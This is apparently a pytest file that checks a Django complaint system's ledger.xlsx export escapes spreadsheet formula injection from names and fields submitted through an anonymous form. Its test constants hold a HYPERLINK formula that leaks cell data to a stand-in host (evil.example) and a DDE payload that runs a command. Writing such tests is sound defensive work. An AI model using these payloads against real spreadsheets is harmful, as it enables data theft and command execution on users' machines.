"""Names typed into the anonymous complaint form never become formulas in ledger.xlsx."""

import io
import zipfile

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from cases import imports
from core.spreadsheets import cell_text
from tests.cases.complaint_support import COMPLAINTS_URL, claimant, complaint

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
CMD = "=cmd|' /C calc'!A0"


def test_it_keeps_formulas_from_an_anonymous_complaint_out_of_the_ledger(client, people):
    body = complaint(
        employer_name=HYPERLINK,
        claimants=[claimant(0, name="@SUM(1+1)")],
        construction=True,
        project_name=CMD,
    )
    response = APIClient().post(COMPLAINTS_URL, body, format="json")
    assert response.status_code == 201, response.content.decode()
    client.force_login(people["inspector"])

    content = b"".join(client.get("/workbench/ledger.xlsx").streaming_content)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    workbook = load_workbook(io.BytesIO(content))
    row = [cell for cell in workbook["案件台账"][2]]
    assert row[4].value == "'" + HYPERLINK and row[4].data_type == "s"
    assert row[6].value == "'" + CMD and row[6].data_type == "s"
    claim_row = [cell.value for cell in workbook["请求人"][2]]
    assert claim_row[1] == "'@SUM(1+1)"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_marks_every_text_that_could_start_a_formula(start):
    assert cell_text(start + "1+1") == "'" + start + "1+1"


def test_it_leaves_plain_text_and_numbers_alone():
    assert cell_text("襄汾县宏达建筑工程有限公司") == "襄汾县宏达建筑工程有限公司"
    assert cell_text(-5) == -5 and cell_text(None) is None


def test_it_writes_the_import_template_without_formulas():
    content = imports.template_workbook()

    workbook = load_workbook(io.BytesIO(content))
    assert all(
        cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row
    )
